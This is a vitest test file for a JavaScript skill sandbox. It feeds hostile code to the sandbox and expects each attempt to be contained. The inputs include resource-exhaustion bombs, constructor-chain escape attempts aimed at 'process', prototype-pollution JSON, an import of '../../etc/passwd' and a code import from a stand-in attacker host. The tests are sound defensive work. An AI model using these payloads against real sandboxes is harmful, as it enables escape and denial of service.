import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox, type ProcessSandbox } from '../../src/runtime/sandbox.ts';
import type { SandboxJob, SandboxResult } from '../../src/runtime/types.ts';
import { fakeHost, job } from './helpers.ts';

let sandbox: ProcessSandbox;
beforeAll(() => {
  sandbox = createSandbox({ size: 2, warmIsolates: 1, killGraceMs: 1000 });
});
afterAll(() => sandbox.close());

const SHORT: Partial<SandboxJob['limits']> = { timeoutMs: 500, cpuMs: 5000, memoryMb: 32 };
const exec = (code: string, limits: Partial<SandboxJob['limits']> = {}, extra: Partial<SandboxJob> = {}) =>
  sandbox.execute(job(code, { ...extra, limits: { ...SHORT, ...limits } }), fakeHost());

async function expectBenign(): Promise<void> {
  const r = await exec('export default (input) => input.n + 1');
  expect(r).toMatchObject({ status: 'succeeded', output: 22 });
}

function expectOutcome(r: SandboxResult, status: SandboxResult['status'], type: string): void {
  expect({ status: r.status, type: r.error?.type }, r.error?.message).toEqual({ status, type });
}

describe('hostile skills', () => {
  it('infinite loop times out', async () => {
    expectOutcome(await exec('export default () => { for (;;) {} }'), 'timed_out', 'timeout');
    await expectBenign();
  });

  it('infinite loop past the CPU limit fails with cpu_limit', async () => {
    expectOutcome(
      await exec('export default () => { for (;;) {} }', { cpuMs: 100, timeoutMs: 3000 }),
      'failed',
      'cpu_limit',
    );
    await expectBenign();
  });

  it('heap bomb fails with memory_limit', async () => {
    const r = await exec('export default () => { const a = []; for (;;) a.push("x".repeat(64) + a.length); }', {
      timeoutMs: 5000,
    });
    expectOutcome(r, 'failed', 'memory_limit');
    await expectBenign();
  });

  it('ArrayBuffer bomb fails with memory_limit', async () => {
    const r = await exec('export default () => { const a = []; for (;;) a.push(new ArrayBuffer(1 << 20)); }', {
      timeoutMs: 5000,
    });
    expectOutcome(r, 'failed', 'memory_limit');
    await expectBenign();
  });

  it('new Array(1e9).fill(0) fails with memory_limit and the worker is replaced', async () => {
    // isolated-vm disposes the isolate for memory but may keep its thread busy; the worker reports
    // memory_limit (it saw the isolate disposed by something other than itself) and retires.
    const r = await exec('export default () => new Array(1e9).fill(0)', { timeoutMs: 5000 });
    expectOutcome(r, 'failed', 'memory_limit');
    await expectBenign();
  });

  it('deep recursion is a skill_error (RangeError), not a crash', async () => {
    const r = await exec('export default () => { const f = (n) => f(n + 1) + 1; return f(0); }');
    expectOutcome(r, 'failed', 'skill_error');
    expect(r.error?.message).toMatch(/call stack/i);
    await expectBenign();
  });

  it('microtask flood times out', async () => {
    expectOutcome(await exec('export default async () => { for (;;) await null; }'), 'timed_out', 'timeout');
    await expectBenign();
  });

  it('never-resolving promise times out', async () => {
    expectOutcome(await exec('export default () => new Promise(() => {})'), 'timed_out', 'timeout');
    await expectBenign();
  });

  it('log flood times out (and logs stay capped)', async () => {
    // A small log budget makes truncation certain even on a slow machine that logs few lines before the deadline.
    const r = await exec('export default () => { for (;;) console.log(1); }', { maxHostCalls: 1e9, maxLogBytes: 2000 });
    expectOutcome(r, 'timed_out', 'timeout');
    expect(r.logs.length).toBeLessThanOrEqual(2001); // 2 000 one-byte lines + the truncation line
    expect(r.logs.at(-1)?.message).toMatch(/truncated/);
    await expectBenign();
  });

  it('log flood with a host-call budget fails with limit_exceeded', async () => {
    const r = await exec('export default () => { for (;;) console.log(1); }', { maxHostCalls: 100 });
    expectOutcome(r, 'failed', 'limit_exceeded');
  });

  it('50 MB return value fails with output_too_large', async () => {
    const r = await exec('export default () => "x".repeat(50 * 1024 * 1024)', {
      memoryMb: 256,
      timeoutMs: 5000,
      maxOutputBytes: 1_000_000,
    });
    expectOutcome(r, 'failed', 'output_too_large');
    await expectBenign();
  });

  it('cannot reach process through constructor chains', async () => {
    const r = await exec(`export default function () {
      let viaCtor; try { viaCtor = typeof this.constructor.constructor('return process')(); } catch (e) { viaCtor = 'threw ' + e.name; }
      let viaFn; try { viaFn = typeof Function('return process')(); } catch (e) { viaFn = 'threw ' + e.name; }
      return { viaCtor, viaFn, require: typeof require, process: typeof process, setTimeout: typeof setTimeout,
        ivm: typeof ivm, globals: Object.getOwnPropertyNames(globalThis).filter((k) => /osk|send|control|ivm/i.test(k)) };
    }`);
    expect(r.status).toBe('succeeded');
    expect(r.output).toEqual({
      viaCtor: 'threw TypeError',
      viaFn: 'threw ReferenceError',
      require: 'undefined',
      process: 'undefined',
      setTimeout: 'undefined',
      ivm: 'undefined',
      globals: [],
    });
  });

  it('a __proto__ key in the output stays an own property and pollutes nothing', async () => {
    const r = await exec('export default () => JSON.parse(\'{"__proto__": {"polluted": true}, "a": 1}\')');
    expect(r.status).toBe('succeeded');
    const output = r.output as Record<string, unknown>;
    expect(Object.hasOwn(output, '__proto__')).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(output)).toBe(Object.prototype);
  });

  it('returning a function or a hostile Proxy is a skill_error', async () => {
    expectOutcome(await exec('export default () => () => 1'), 'failed', 'skill_error');
    const proxy = await exec('export default () => new Proxy({}, { ownKeys() { throw new Error("trap"); } })');
    expectOutcome(proxy, 'failed', 'skill_error');
    const revoked = await exec(
      'export default () => { const p = Proxy.revocable({}, {}); p.revoke(); return p.proxy; }',
    );
    expectOutcome(revoked, 'failed', 'skill_error');
    await expectBenign();
  });

  it("importing 'fs' or escaping the bundle fails with a skill_error naming the specifier", async () => {
    const fs = await exec("import fs from 'fs'; export default () => 1");
    expectOutcome(fs, 'failed', 'skill_error');
    expect(fs.error?.message).toContain('"fs"');
    const escaped = await exec("import x from '../../etc/passwd'; export default () => x");
    expectOutcome(escaped, 'failed', 'skill_error');
    expect(escaped.error?.message).toContain('"../../etc/passwd"');
    const url = await exec("import x from 'https://evil.example/x.js'; export default () => x");
    expectOutcome(url, 'failed', 'skill_error');
    await expectBenign();
  });

  it('a worker killed mid-run gives infrastructure_error, then the next run succeeds', async () => {
    const pending = exec('export default () => new Promise(() => {})', { timeoutMs: 5000 });
    await new Promise((resolve) => setTimeout(resolve, 300));
    const killed = sandbox.workerPids();
    for (const pid of killed) process.kill(pid, 'SIGKILL');
    expectOutcome(await pending, 'failed', 'infrastructure_error');
    // Wait until the pool has noticed every exit (a run sent to a dying worker fails the same way).
    while (sandbox.workerPids().some((pid) => killed.includes(pid))) await new Promise((r) => setTimeout(r, 20));
    await expectBenign();
  });

  it('survives 50 concurrent hostile runs and then serves a benign one', async () => {
    const bombs = [
      'export default () => { for (;;) {} }',
      'export default async () => { for (;;) await null; }',
      'export default () => new Promise(() => {})',
      'export default () => { const a = []; for (;;) a.push("x".repeat(64) + a.length); }',
      'export default () => { const f = (n) => f(n + 1) + 1; return f(0); }',
    ];
    const results = await Promise.all(
      Array.from({ length: 50 }, (_, i) => exec(bombs[i % bombs.length] as string, { timeoutMs: 300 })),
    );
    for (const r of results) expect(r.status).not.toBe('succeeded');
    await expectBenign();
  });
});
